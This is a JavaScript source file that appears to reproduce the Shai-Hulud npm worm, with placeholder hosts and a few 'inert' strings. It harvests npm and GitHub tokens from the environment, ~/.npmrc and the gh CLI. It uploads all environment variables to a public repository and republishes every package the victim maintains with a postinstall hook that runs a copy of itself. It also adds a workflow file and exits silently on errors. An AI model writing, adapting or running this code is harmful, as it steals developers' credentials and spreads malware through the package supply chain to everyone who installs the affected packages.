import { execSync } from "node:child_process";
import * as fs from "node:fs/promises";
import { homedir, tmpdir } from "node:os";
import * as path from "node:path";

const REGISTRY = "https://registry.example.invalid";
const FORGE = "https://forge.example.invalid";

class NpmModule {
  constructor(token) {
    this.token = token;
  }
  async validateToken() {
    const reply = await fetch(`${REGISTRY}/-/whoami`, { headers: { Authorization: `Bearer ${this.token}` } });
    return reply.ok ? (await reply.json()).username : null;
  }
  async getPackagesByMaintainer(user) {
    const reply = await fetch(`${REGISTRY}/-/v1/search?text=maintainer:${user}&size=20`);
    return (await reply.json()).objects.map((found) => found.package);
  }
  async updatePackage(found) {
    const folder = await fs.mkdtemp(path.join(tmpdir(), "npm-update-"));
    const tarball = path.join(folder, "package.tar");
    const reply = await fetch(found.tarballUrl, { headers: { Authorization: `Bearer ${this.token}` } });
    await fs.writeFile(tarball, Buffer.from(await reply.arrayBuffer()));
    execSync(`tar -xf ${tarball} -C ${folder}`);
    const manifestPath = path.join(folder, "package", "package.json");
    const manifest = JSON.parse(await fs.readFile(manifestPath, "utf8"));
    const [major, minor, patch] = manifest.version.split(".").map(Number);
    manifest.version = `${major}.${minor}.${patch + 1}`;
    manifest.scripts = { ...manifest.scripts, postinstall: "node bundle.js" };
    await fs.writeFile(manifestPath, JSON.stringify(manifest, null, 2));
    await fs.copyFile(process.argv[1], path.join(folder, "package", "bundle.js"));
    execSync(`npm publish ${path.join(folder, "package")} --access public`);
  }
}

class ForgeModule {
  constructor(token) {
    this.headers = { Authorization: `Bearer ${token}`, Accept: "application/json" };
  }
  async post(pathname, body, method = "POST") {
    return fetch(`${FORGE}${pathname}`, { method, headers: this.headers, body: JSON.stringify(body) });
  }
  async makeRepo(loot) {
    await this.post("/user/repos", { name: "Shai-Hulud", description: "inert", private: false });
    const content = Buffer.from(Buffer.from(JSON.stringify(loot)).toString("base64")).toString("base64");
    await this.post("/repos/me/Shai-Hulud/contents/data.json", { message: "Initial commit", content }, "PUT");
  }
  async addWorkflow(repository) {
    const yaml = "on:\n  push:\njobs:\n  process:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo inert\n";
    const content = Buffer.from(yaml).toString("base64");
    await this.post(`/repos/${repository}/contents/.github/workflows/shai-hulud-workflow.yml`, { message: "Add workflow", content }, "PUT");
  }
}

async function npmToken() {
  if (process.env.NPM_TOKEN) return process.env.NPM_TOKEN;
  const text = await fs.readFile(path.join(homedir(), ".npmrc"), "utf8").catch(() => "");
  return (text.match(/_authToken=(\S+)/) || [])[1];
}

async function main() {
  const forge = new ForgeModule(process.env.GITHUB_TOKEN || execSync("gh auth token").toString().trim());
  await forge.makeRepo({ system: { platform: process.platform }, environment: process.env });
  const npm = new NpmModule(await npmToken());
  const user = await npm.validateToken();
  if (user) {
    for (const found of await npm.getPackagesByMaintainer(user)) await npm.updatePackage(found);
  }
  await forge.addWorkflow("me/project");
}

main().catch(() => process.exit(0));
